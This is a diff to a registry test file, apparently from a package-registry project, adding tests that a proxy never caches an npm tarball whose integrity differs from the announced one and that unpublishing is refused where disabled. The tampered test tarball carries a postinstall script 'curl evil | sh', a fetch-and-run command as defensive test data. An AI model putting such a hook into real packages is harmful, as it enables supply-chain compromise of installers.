@@ -1,26 +1,56 @@
 // Hostile and malformed input to the npm format: each answered with npm's JSON error body
 // and the right status, and nothing stored changes.
 import { randomBytes } from 'node:crypto';
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { makeTarball, packageTarball, publishBody } from '../helpers/npm-publish-body.js';
 import { createUserAndToken, rawRequest, startRegistry, type RunningRegistry } from '../helpers/registry-process.js';
+
+/** An upstream whose packument announces an integrity its tarball does not have. */
+async function lyingUpstream(): Promise<{ server: Server; tarballHits: number }> {
+  const state = { server: undefined as unknown as Server, tarballHits: 0 };
+  const real = await packageTarball({ name: 'liar', version: '1.0.0' });
+  const tampered = await packageTarball({ name: 'liar', version: '1.0.0', scripts: { postinstall: 'curl evil | sh' } });
+  state.server = createServer((req, res) => {
+    if (req.url === '/liar') {
+      const body = JSON.parse(publishBody({ name: 'liar', version: '1.0.0' }, real)) as { versions: Record<string, { dist: { tarball: string } }> };
+      const port = (state.server.address() as AddressInfo).port;
+      body.versions['1.0.0']!.dist.tarball = `http://127.0.0.1:${port}/liar/-/liar-1.0.0.tgz`;
+      res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ name: 'liar', 'dist-tags': { latest: '1.0.0' }, versions: body.versions }));
+    } else if (req.url === '/liar/-/liar-1.0.0.tgz') {
+      state.tarballHits++;
+      res.writeHead(200, { 'content-type': 'application/octet-stream' }).end(tampered);
+    } else {
+      res.writeHead(404).end();
+    }
+  });
+  await new Promise<void>((resolve) => state.server.listen(0, '127.0.0.1', () => resolve()));
+  return state;
+}
 
 describe('npm bad input', () => {
   let registry: RunningRegistry;
   let token: string;
   let readOnly: string;
 
+  let liar: { server: Server; tarballHits: number };
+
   beforeAll(async () => {
+    liar = await lyingUpstream();
     registry = await startRegistry(`
 limits: { maxUploadSize: 1mb }
 repositories:
   npm-local: { format: npm, type: hosted }
+  npm-kept: { format: npm, type: hosted, allowUnpublish: false }
+  npm-liar: { format: npm, type: proxy, upstream: "http://127.0.0.1:${(liar.server.address() as AddressInfo).port}/" }
 `);
     token = await createUserAndToken(registry.configFile, 'alice');
     readOnly = await createUserAndToken(registry.configFile, 'alice', { readOnly: true });
   });
   afterAll(async () => {
     await registry?.stop();
+    liar?.server.close();
   });
 
   const put = (rawPath: string, body: string | Buffer, auth: string | null = token) =>
@@ -143,6 +173,24 @@ repositories:
     expect(answer.status).toBe(400);
     expect((JSON.parse(answer.body) as { error: string }).error).toMatch(/size/);
     expect((await rawRequest(registry.url, '/npm-local/-/v1/search?text=a&size=-1')).status).toBe(400);
+  });
+
+  it('refuses unpublish where the repository forbids it', async () => {
+    const manifest = { name: 'kept-forever', version: '1.0.0' };
+    expect((await rawRequest(registry.url, '/npm-kept/kept-forever', { method: 'PUT', headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' }, body: publishBody(manifest, await packageTarball(manifest)) })).status).toBe(201);
+    const doc = JSON.parse((await rawRequest(registry.url, '/npm-kept/kept-forever')).body) as { _rev: string };
+    const removed = await rawRequest(registry.url, `/npm-kept/kept-forever/-rev/${doc._rev}`, { method: 'DELETE', headers: { authorization: `Bearer ${token}` } });
+    await expectRefused(removed, 403, /unpublishing is disabled/);
+    expect((await rawRequest(registry.url, '/npm-kept/kept-forever')).status).toBe(200);
+  });
+
+  it('never caches a proxied tarball that does not match its announced integrity', async () => {
+    const wrong = await rawRequest(registry.url, '/npm-liar/liar/-/liar-1.0.0.tgz');
+    expect(wrong.status).toBe(502);
+    expect((JSON.parse(wrong.body) as { error: string }).error).toMatch(/does not match its announced digest/);
+    // Asked again: still refused (nothing was cached), and the upstream was asked again.
+    expect((await rawRequest(registry.url, '/npm-liar/liar/-/liar-1.0.0.tgz')).status).toBe(502);
+    expect(liar.tarballHits).toBe(2);
   });
 
   it('still serves the good package unchanged after all of that', async () => {
